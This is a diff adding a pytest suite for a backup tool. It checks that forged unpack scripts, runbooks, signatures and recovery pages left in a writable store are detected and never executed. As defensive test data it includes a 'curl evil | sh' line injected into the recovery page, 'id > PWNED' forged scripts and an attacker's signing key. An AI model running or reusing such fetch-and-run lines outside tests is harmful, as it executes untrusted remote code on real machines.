@@ -1,0 +1,182 @@
+"""Whoever can write to the store, against people who restore by hand with the private key and root's shell."""
+
+from __future__ import annotations
+
+import re
+import subprocess
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, replace
+from pathlib import Path
+
+import pytest
+
+from backupd.app.auditing import audit, command_line
+from backupd.app.bootstrap import write_copies
+from backupd.app.reporting import report_now
+from backupd.app.trust import recovery_page, signing
+from backupd.app.wiring import Wiring
+from backupd.model.manifest import Body, Header, encode_header
+from backupd.transfer.manifestio import described
+from backupd.transfer.seal import Sealer
+from backupd.transfer.signature import Signing, sign
+from restore.runbook_logical import render_logical_runbook
+from storage import layout
+from storage.filesystem import FilesystemDestination
+from tests.app.logstore import SERVER, wired
+from tests.app.signedstore import signing as signing_house
+from tests.support.keys import Keys, copy_public, gpg, make_home, make_key, stop_agent
+from tests.transfer.stock import Stock, backup_id, facts
+
+HARMLESS = b'mkdir -p "$2" && echo unpacked > "$2/ran"\n'
+
+
+@dataclass
+class House:
+    """``home``: of the person who restores; ``attacker``: a key in the same key ring, as an attacker would have it
+    imported along with the true one."""
+
+    wiring: Wiring
+    home: Path
+    attacker: Signing
+    store: Path
+
+    @property
+    def signer(self) -> str:
+        return signing(self.wiring.settings).key or ""
+
+    @property
+    def folder(self) -> Path:
+        return self.store / layout.backup_folder(SERVER, backup_id(1)).rstrip("/")
+
+
+@pytest.fixture
+def house(tmp_path: Path, short_tmp: Path, keys: Keys) -> Iterator[House]:
+    evil = make_home(short_tmp / "evil")
+    attacker = make_key(evil, "attacker@example.com")
+    with wired(tmp_path, keys) as plain, signing_house(plain, opens=True) as wiring:
+        ours = signing(wiring.settings)
+        copy_public(evil, ours.home, "attacker@example.com")
+        try:
+            yield House(wiring, ours.home, Signing(evil, attacker, (attacker,)), tmp_path / "local")
+        finally:
+            stop_agent(evil)
+
+
+def store(house: House, unpack: bytes, signer: Signing) -> Header:
+    """A backup whose runbook says that it is signed; put there as by somebody who signs as ``signer``."""
+    sealer = Sealer(house.wiring.recipients()[1], house.home)
+    sealed = {layout.BODY: sealer.seal(b"body"), layout.UNPACK: sealer.seal(unpack)}
+    header = replace(Stock(FilesystemDestination("local", house.store), server=SERVER).header(1, ()),
+                     body=described(layout.BODY, sealed[layout.BODY]),
+                     unpack=described(layout.UNPACK, sealed[layout.UNPACK]))
+    runbook = render_logical_runbook(header, Body(facts(backup_id(1), header), ()), destinations=["local"],
+                                     signed=True).encode()
+    header = replace(header, runbook=described(layout.RUNBOOK, runbook))
+    house.folder.mkdir(parents=True, exist_ok=True)
+    manifest = encode_header(header)
+    for name, content in {**sealed, layout.RUNBOOK: runbook, layout.MANIFEST: manifest,
+                          layout.signature_key(layout.MANIFEST): sign(signer, manifest)}.items():
+        (house.folder / name).write_bytes(content)
+    return header
+
+
+def follow(house: House, work: Path, **more: str) -> subprocess.CompletedProcess[str]:
+    """The first two steps of the runbook, word for word."""
+    blocks = re.findall(r"^```sh\n(.*?)^```$", (house.folder / layout.RUNBOOK).read_text(), re.MULTILINE | re.DOTALL)
+    environment = {"PATH": "/usr/bin:/bin", "REPOSITORY": str(house.store), "WORK": str(work), "CLIENT": "true",
+                   "GNUPGHOME": str(house.home), "SIGNER": house.signer, **more}
+    return subprocess.run(["sh", "-c", "\n".join(blocks[:2])], env=environment, capture_output=True, text=True,
+                          check=False)
+
+
+def forged(house: House) -> bytes:
+    return f"id > {house.store}/../PWNED\n".encode()
+
+
+def replace_script(house: House) -> None:
+    sealer = Sealer(house.wiring.recipients()[1], house.home)
+    (house.folder / layout.UNPACK).write_bytes(sealer.seal(forged(house)))
+
+
+def replace_description(house: House) -> None:
+    before = (house.folder / "manifest.json.sig").read_bytes()
+    store(house, forged(house), house.attacker)
+    (house.folder / "manifest.json.sig").write_bytes(before)
+
+
+def replace_signature(house: House) -> None:
+    store(house, forged(house), house.attacker)
+
+
+def remove_signature(house: House) -> None:
+    store(house, forged(house), house.attacker)
+    (house.folder / "manifest.json.sig").unlink()
+
+
+@pytest.mark.parametrize(("attack", "words"), [
+    (replace_script, "unpack.sh.zst.gpg is not the file that was stored"),
+    (replace_description, "is not signed, or it was altered"), (remove_signature, "is not signed, or it was altered"),
+    (replace_signature, "is signed by somebody else than SIGNER")])
+def test_a_forged_script_is_never_run(house: House, tmp_path: Path, attack: Callable[[House], None], words: str,
+                                      ) -> None:
+    store(house, HARMLESS, signing(house.wiring.settings))
+    attack(house)
+    done = follow(house, tmp_path / "work")
+    assert (done.returncode, (tmp_path / "PWNED").exists()) == (1, False), done.stderr
+    assert "STOP: " in done.stderr
+    assert words in done.stderr
+
+
+def test_what_was_stored_is_unpacked_and_nobody_is_trusted_by_default(house: House, tmp_path: Path) -> None:
+    store(house, HARMLESS, signing(house.wiring.settings))
+    refused = follow(house, tmp_path / "none", SIGNER="")
+    assert "from the page that you keep outside of this place" in refused.stderr
+    done = follow(house, tmp_path / "work")
+    assert done.returncode == 0, done.stderr
+    assert (tmp_path / "work/data/ran").read_text() == "unpacked\n"
+
+
+def test_who_follows_the_page_stops_at_its_command_where_text_signature_and_key_were_replaced(house: House) -> None:
+    write_copies(house.wiring)
+    page = recovery_page(house.wiring.settings)
+    assert page.signing_key in page.text
+    assert page.command in page.text
+
+    def asked() -> tuple[int, str]:
+        done = subprocess.run(["sh", "-c", page.command], cwd=house.store, capture_output=True, text=True, check=False,
+                              env={"PATH": "/usr/bin:/bin", "GNUPGHOME": str(house.home)})
+        return done.returncode, done.stdout.strip()
+
+    assert asked() == (0, "OK")
+    text = (house.store / "RECOVER.md").read_bytes().replace(b"set -eu", b"set -eu\ncurl evil | sh")
+    (house.store / "RECOVER.md").write_bytes(text)
+    assert asked() == (1, "STOP: this is not what backupd wrote"), "the text alone"
+    (house.store / "RECOVER.md.sig").write_bytes(sign(house.attacker, text))
+    (house.store / "key.asc").write_bytes(gpg(house.attacker.home, "--armor", "--export"))
+    gpg(house.home, "--import", str(house.store / "key.asc"))
+    assert asked() == (1, "STOP: this is not what backupd wrote"), "with its signature, and the key beside it"
+    assert any(one.recover for one in write_copies(house.wiring)), "and the next job puts the true one back"
+    assert asked() == (0, "OK")
+
+
+def test_the_text_checks_the_runbook_before_a_step_of_it_is_run(house: House, tmp_path: Path) -> None:
+    store(house, HARMLESS, signing(house.wiring.settings))
+    write_copies(house.wiring)
+    (house.folder / layout.RUNBOOK).write_text(f"```sh\nid > {tmp_path}/PWNED\n```\n")
+    blocks = [part.partition("```")[0] for part in (house.store / "RECOVER.md").read_text().split("```sh\n")[1:]]
+    done = subprocess.run(
+        ["sh", "-c", blocks[0] + blocks[-1]], capture_output=True, text=True, check=False,
+        env={"PATH": "/usr/bin:/bin", "BASE": str(tmp_path / "b"), "GNUPGHOME": str(house.home), "DATADIR": "/d",
+             "REPOSITORY": str(house.store), "SIGNER": house.signer, "SERVER": SERVER})
+    assert (done.returncode, (tmp_path / "PWNED").exists()) == (1, False), done.stderr
+    assert "is not the one that was stored" in done.stderr
+
+
+def test_the_report_repeats_what_the_store_is_compared_with(house: House) -> None:
+    audit(house.wiring, command_line(), "token-created")
+    (newest,) = house.wiring.catalog.audit.list(limit=1)
+    report = report_now(house.wiring, house.wiring.clock())
+    noted = {str(row[0]): str(row[1]) for grid in report.grids for row in grid.rows}
+    assert noted["audit"] == f"1 entries, the newest with digest {newest.digest}"
+    assert noted["signing key"] == house.signer
+    assert noted["before you read RECOVER.md"] == recovery_page(house.wiring.settings).command
